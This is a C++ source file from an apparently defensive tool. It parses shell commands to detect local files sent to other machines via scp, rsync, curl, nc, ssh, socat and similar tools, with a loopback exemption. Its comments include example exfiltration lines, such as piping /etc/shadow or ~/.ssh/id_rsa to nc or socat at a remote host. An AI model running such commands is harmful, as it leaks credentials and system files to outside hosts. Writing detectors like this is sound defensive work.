#include "SentFiles.h"

#include <QHostAddress>

#include "Addresses.h"
#include "PayloadForms.h"
#include "core/ShellCommands.h"

namespace interlock {

namespace {
// Short options taking a value, per program (getopt: -i key, -ikey, -ri key).
const char16_t kScpValues[] = u"cDFiJloPS";
const char16_t kRsyncValues[] = u"eBfMT";
const char16_t kSshValues[] = u"bcDEeFIiJLlmOopQRSWw";
const char16_t kCurlValues[] = u"ACDEFHKPQTUXYbcdemortuwxyz";
const char16_t kNcValues[] = u"eIiOpqsTwxX";

bool isLoopback(QString host)
{
    host = host.toLower();
    if (host.startsWith(u'[') && host.endsWith(u']'))
        host = host.mid(1, host.size() - 2);
    const QHostAddress address(host); // 127.evil.com is a name, not an address
    return host == QLatin1String("localhost") || (!address.isNull() && address.isLoopback());
}

// A word that names another machine, or may: a URL, user@host[:path], host:port, a dotted name
// or an address, also as an option's value (-o HostName=evil.com, --proxy=evil.com:3128).
// Generous on purpose: it only ever takes away the loopback exemption.
bool namesOutsideHost(QString w)
{
    if (w.contains(u' ') || w.startsWith(u'/') || w.startsWith(u'~') || w.startsWith(u'.'))
        return false;
    if (!w.contains(QLatin1String("://")) && w.contains(u'='))
        w = w.section(u'=', 1);
    QString host = w.contains(QLatin1String("://")) ? Addresses::urlHost(w) : w;
    host = host.section(u'@', -1).section(u'/', 0, 0);
    if (!host.startsWith(u'['))
        host = host.section(u':', 0, 0);
    bool number = false;
    host.toULongLong(&number); // a port (an address written as one number is not read here)
    if (host.isEmpty() || number || isLoopback(host))
        return false;
    const qsizetype dot = host.lastIndexOf(u'.');
    return !QHostAddress(host.startsWith(u'[') ? host.mid(1, host.size() - 2) : host).isNull() ||
           (dot > 0 && dot + 1 < host.size() && host[dot + 1].isLetter());
}

// A getopt-style walk of a command's words: each option (and its value, if it takes one) or
// operand in turn.
struct Word {
    QString option; // "-T", "--upload-file"; empty for an operand
    QString value;  // the option's value, or the operand
};
QList<Word> walk(const ShellCommand &c, QStringView valueLetters)
{
    QList<Word> out;
    const QStringList &w = c.words;
    bool options = true;
    for (qsizetype i = c.program + 1; i < w.size(); ++i) {
        if (options && w[i] == QLatin1String("--")) {
            options = false;
        } else if (options && w[i].startsWith(QLatin1String("--"))) {
            const qsizetype eq = w[i].indexOf(u'=');
            // --opt=value, or --opt value when the next word is not an option
            if (eq > 0)
                out.append({w[i].left(eq), w[i].mid(eq + 1)});
            else
                out.append(
                    {w[i], i + 1 < w.size() && !w[i + 1].startsWith(u'-') ? w[i + 1] : QString()});
        } else if (options && w[i].size() > 1 && w[i].startsWith(u'-')) {
            const QString &word = w[i];
            for (qsizetype k = 1; k < word.size(); ++k) {
                if (!valueLetters.contains(word[k]))
                    continue;
                QString value = word.mid(k + 1);
                if (value.isEmpty() && i + 1 < w.size())
                    value = w[++i];
                out.append({QStringLiteral("-") + word[k], value});
                break;
            }
        } else {
            out.append({QString(), w[i]});
        }
    }
    return out;
}

// host:path, user@host:path or rsync://host/path, on another machine.
bool isRemote(const QString &operand)
{
    if (operand.startsWith(QLatin1String("rsync://")))
        return !isLoopback(Addresses::urlHost(operand));
    const qsizetype colon = operand.indexOf(u':');
    const qsizetype slash = operand.indexOf(u'/');
    if (colon <= 0 || (slash >= 0 && slash < colon))
        return false;
    const QString host = operand.left(colon);
    return !isLoopback(host.mid(host.lastIndexOf(u'@') + 1));
}

// The files a command reads with `< FILE`.
void inputFiles(const ShellCommand &c, QStringList *out)
{
    for (const QString &r : c.redirections) {
        qsizetype i = 0;
        while (i < r.size() && r[i].isDigit())
            ++i;
        if (r.mid(i).startsWith(QLatin1String("< ")))
            out->append(r.mid(i + 2));
    }
}

// What curl or wget sends: files named by its options; `stdin` when it reads standard input.
QStringList uploads(const QList<Word> &words, bool *stdinSent)
{
    QStringList out;
    for (const Word &w : words) {
        const QString &o = w.option;
        QString file;
        if (o == QLatin1String("-T") || o == QLatin1String("--upload-file") ||
            o == QLatin1String("--post-file") || o == QLatin1String("--body-file")) {
            file = w.value;
        } else if (o == QLatin1String("-d") || o == QLatin1String("--json") ||
                   (o.startsWith(QLatin1String("--data")) && o != QLatin1String("--data-raw"))) {
            const qsizetype at = w.value.indexOf(u'@');
            if (at == 0 || (at > 0 && o == QLatin1String("--data-urlencode")))
                file = w.value.mid(at + 1);
        } else if (o == QLatin1String("-F") || o == QLatin1String("--form")) {
            qsizetype at = w.value.indexOf(QLatin1String("=@"));
            if (at < 0)
                at = w.value.indexOf(QLatin1String("=<"));
            if (at > 0)
                file = w.value.mid(at + 2).section(u';', 0, 0);
        }
        if (file == QLatin1String("-") || file == QLatin1String("."))
            *stdinSent = true;
        else if (!file.isEmpty())
            out.append(file);
    }
    return out;
}

bool isLoopbackWord(const QString &w)
{
    return isLoopback(w.contains(QLatin1String("://")) ? Addresses::urlHost(w)
                                                       : w.section(u':', 0, 0));
}

bool isSender(QStringView tool)
{
    for (const char16_t *t :
         {u"curl", u"wget", u"nc", u"ncat", u"netcat", u"telnet", u"ssh", u"socat"}) {
        if (tool == QStringView(t))
            return true;
    }
    return false;
}

// The command substitutions of one command ("$(cat ~/.ssh/id_rsa)", `cat f`): ShellCommands
// lists the commands they run after it, with "$(" or "`" in their `before` (quoted ones behind
// "; "), and, unquoted, the command's words after the substitution behind ")". What those
// commands read is part of the command's arguments: sent if it sends, passed on otherwise.
struct Substitutions {
    int depth = 0;
    bool tick = false; // a ` is open
    QStringList files; // what the commands inside read
    QStringList words; // the sending command's words, and those after an unquoted substitution

    // Whether `c` belongs to the command before it: runs inside one of its substitutions, or
    // holds its words after one. Reads `before` operator by operator.
    bool takes(const ShellCommand &c)
    {
        const QStringList ops = c.before.split(u' ', Qt::SkipEmptyParts);
        bool belongs = depth > 0;
        for (qsizetype i = 0; i < ops.size(); ++i) {
            const QString &op = ops[i];
            if (op == u"$(" || (op == u"`" && !tick)) {
                tick = tick || op == u"`";
                ++depth;
                belongs = true;
            } else if (op == u")" || op == u"`") {
                tick = tick && op != u"`";
                depth = qMax(0, depth - 1);
                belongs = belongs || depth == 0;
            } else if (depth == 0 &&
                       !(i + 1 < ops.size() && (ops[i + 1] == u"$(" || ops[i + 1] == u"`"))) {
                return false; // ; && | …: the next command (but "; $(" of a quoted one)
            }
        }
        if (!belongs)
            return false;
        if (depth > 0) {
            files += c.operands;
            inputFiles(c, &files);
        } else {
            words += c.words;
        }
        return true;
    }
};

// Sends to this machine only: a loopback host is named and no other (a proxy, a jump host, a
// second URL or an ssh option naming one takes the exemption away).
bool onlyLoopback(const QStringList &words)
{
    bool loopback = false;
    for (const QString &w : words) {
        if (namesOutsideHost(w))
            return false;
        loopback = loopback || isLoopbackWord(w);
    }
    return loopback;
}

QStringList argumentsOf(const ShellCommand &c)
{
    return c.words.mid(c.program + 1);
}
} // namespace

QList<SentFile> SentFiles::inCommand(const QString &commandLine)
{
    return inCommand(ShellCommands::read(commandLine));
}

QList<SentFile> SentFiles::inCommand(const QList<ShellCommand> &commands)
{
    QList<SentFile> out;
    QStringList piped; // the files the commands piped into this one read
    QString owner;     // the command whose substitutions follow, if it sends
    Substitutions subs;
    const auto endSubstitutions = [&] {
        if (!owner.isEmpty() && !onlyLoopback(subs.words)) {
            for (const QString &f : std::as_const(subs.files))
                out.append({f, owner});
        } else if (owner.isEmpty()) {
            piped += subs.files; // echo "$(cat /etc/shadow)" | nc host 80
        }
        subs = {};
    };
    for (const ShellCommand &c : commands) {
        if (subs.takes(c))
            continue;
        endSubstitutions();
        if (c.before != QLatin1String("|") && c.before != QLatin1String("|&"))
            piped.clear();
        const QString &tool = c.name;
        owner = isSender(tool) ? tool : QString();
        if (!owner.isEmpty())
            subs.words = argumentsOf(c);
        QStringList files;
        bool readsStdin = false;
        if (tool == QLatin1String("scp") || tool == QLatin1String("rsync")) {
            QStringList operands;
            for (const Word &w :
                 walk(c, tool == QLatin1String("scp") ? kScpValues : kRsyncValues)) {
                if (w.option.isEmpty())
                    operands.append(w.value);
            }
            // A loopback destination reached through another machine (-J, -o HostName=…) is not.
            const bool remote =
                isRemote(operands.value(operands.size() - 1)) ||
                std::any_of(c.words.cbegin() + c.program + 1, c.words.cend(),
                            [](const QString &w) { return namesOutsideHost(w) && !isRemote(w); });
            if (operands.size() > 1 && remote) {
                for (const QString &o : operands.first(operands.size() - 1)) {
                    if (!isRemote(o))
                        files.append(o);
                }
            }
        } else if (tool == QLatin1String("curl") || tool == QLatin1String("wget")) {
            const QList<Word> words = walk(c, tool == QLatin1String("curl") ? kCurlValues : u"");
            if (!onlyLoopback(argumentsOf(c)))
                files = uploads(words, &readsStdin);
        } else if (tool == QLatin1String("nc") || tool == QLatin1String("ncat") ||
                   tool == QLatin1String("netcat") || tool == QLatin1String("telnet") ||
                   tool == QLatin1String("ssh") || tool == QLatin1String("socat")) {
            const QList<Word> words =
                walk(c, tool == QLatin1String("ssh") ? kSshValues : kNcValues);
            readsStdin = !onlyLoopback(argumentsOf(c));
            for (const Word &w : words) { // socat FILE:/etc/passwd TCP:host:80
                if (tool == QLatin1String("socat") && w.option.isEmpty() &&
                    w.value.contains(u':') && !w.value.startsWith(QLatin1String("TCP")))
                    files.append(w.value.section(u':', 1).section(u',', 0, 0));
            }
        }
        if (readsStdin) {
            inputFiles(c, &files);
            files += piped;
            piped.clear(); // what it passes on is the other machine's answer (and linear)
        } else {
            piped += c.operands; // cat, tar, base64… pass what they read on
            inputFiles(c, &piped);
        }
        for (const QString &f : std::as_const(files))
            out.append({f, tool});
    }
    endSubstitutions();
    return out;
}

QStringList SentFiles::spellings(const QString &path)
{
    QStringList bases{path};
    for (const QLatin1String home : {QLatin1String("${HOME}"), QLatin1String("$HOME")}) {
        if (path.startsWith(home))
            bases.append(QLatin1Char('~') + path.mid(home.size()));
    }
    QStringList out;
    for (const QString &b : std::as_const(bases)) {
        for (const QString &p : {b, PayloadForms::lexicalPath(b)}) {
            if (out.contains(p))
                continue;
            out.append(p);
            if (!p.endsWith(u'/'))
                out.append(p + QLatin1Char('/'));
        }
    }
    return out;
}

} // namespace interlock
